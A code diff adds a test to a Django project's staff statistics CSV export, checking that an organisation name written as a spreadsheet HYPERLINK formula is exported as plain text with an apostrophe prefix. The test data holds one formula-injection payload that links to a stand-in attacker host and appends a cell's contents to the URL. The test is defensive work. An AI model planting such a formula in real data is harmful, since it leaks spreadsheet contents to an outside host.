@@ -26,6 +26,21 @@ def test_an_analyst_sees_exact_figures_for_her_municipality_only(client, world):
     assert not any(r and r[0] == "Bergen" for r in rows)
 
 
+def test_a_provider_named_like_a_formula_is_plain_text_in_the_staff_csv(client, world):
+    """A provider registers itself as =HYPERLINK(…); the analyst's spreadsheet must show the name,
+    not run it: the cell starts with an apostrophe. The figures stay plain numbers."""
+    from veivalg.directory.models import Organization
+
+    formula = '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk her")'
+    Organization.objects.filter(name="Verkstedet").update(name=formula)
+    client.force_login(world["analyst"])
+    rows = csv_of(
+        client.get("/ansatt/statistikk/csv/", {**YEARS, "tabell": "kapasitet", "etter": "tilbyder"})
+    )
+    assert ["'" + formula, "0", "20"] in rows
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
+
+
 def test_the_dashboard_shows_every_table_with_its_csv_link(client, world):
     client.force_login(world["nav_counsellor"])
     response = client.get("/ansatt/statistikk/", YEARS)
